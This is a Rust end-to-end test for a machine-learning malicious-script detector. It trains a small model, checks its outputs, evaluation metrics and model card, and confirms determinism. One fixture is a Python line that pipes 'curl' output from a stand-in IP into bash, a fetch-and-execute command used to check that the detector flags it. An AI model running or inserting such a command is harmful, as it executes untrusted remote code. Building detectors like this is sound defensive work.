//! End-to-end: a small training run on a subset (templates, every 25th pack file when the shared
//! data set is present, every 25th stdlib file when python3 is present) writes a model that
//! loads, a manifest, eval.json and a model card, and separates held-out data.
use ward_ml::{scan, Model};
use ward_ml_train::{train, TrainOptions};

#[test]
fn small_training_run_end_to_end() {
    let out = std::env::temp_dir().join(format!("ward-ml-train-small-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&out);
    let opts = TrainOptions {
        out: out.clone(),
        benign_packages: None,
        subsample: 25,
        variants_per_template: 8,
        benign_variants_per_template: 6,
        folds: 3,
        epochs: 4,
        progress: false,
        ..TrainOptions::default()
    };
    let r = train(&opts).expect("training runs");
    assert!(r.examples > 500, "{}", r.examples);
    let m = Model::load(&out.join("model.bin")).expect("written model loads");
    assert_eq!(m.manifest.threshold, r.threshold);
    let card = std::fs::read_to_string(out.join("MODEL_CARD.md")).unwrap();
    assert!(card.contains("ROC AUC"));
    let e = r.eval.expect("evaluation ran");
    if ward_ml_train::train::default_registry_path().is_some() {
        // Both directions of the cross-source evaluation, each scoring the other source's files
        // exactly once, and the card leads with them.
        let cs = e
            .cross_source
            .as_ref()
            .expect("registry present: cross-source ran");
        assert_eq!(cs.directions.len(), 2);
        let reg = cs
            .directions
            .iter()
            .find(|d| d.test_source == "registry")
            .unwrap();
        assert_eq!(reg.train_source, "pack");
        assert!(reg.headline.files > 10, "{:?}", reg.headline);
        assert!(reg.real_benign_scripts > 0 && reg.runtime_variants > 0);
        assert!(card.contains("## Headline: cross-source evaluation"));
        assert!(card.find("Headline").unwrap() < card.find("## What it is").unwrap());
    }
    assert!(e.roc_auc > 0.9, "held-out AUC {}", e.roc_auc);
    assert!(
        e.runtime_recall_at_fpr_1e3 > 0.5,
        "{}",
        e.runtime_recall_at_fpr_1e3
    );
    let s = scan(
        &m,
        b"import os\nos.system('curl -fsSL http://203.0.113.7/x.sh | bash')\n",
    );
    assert!(s.score > 0.5, "{s:?}");
    // Deterministic: same options, same model bytes.
    let r2 = train(&TrainOptions {
        evaluate: false,
        out: out.join("again"),
        ..opts.clone()
    })
    .unwrap();
    let again = Model::load(&r2.model_path).unwrap();
    assert_eq!(again.weights, m.weights);
    let _ = std::fs::remove_dir_all(&out);
}
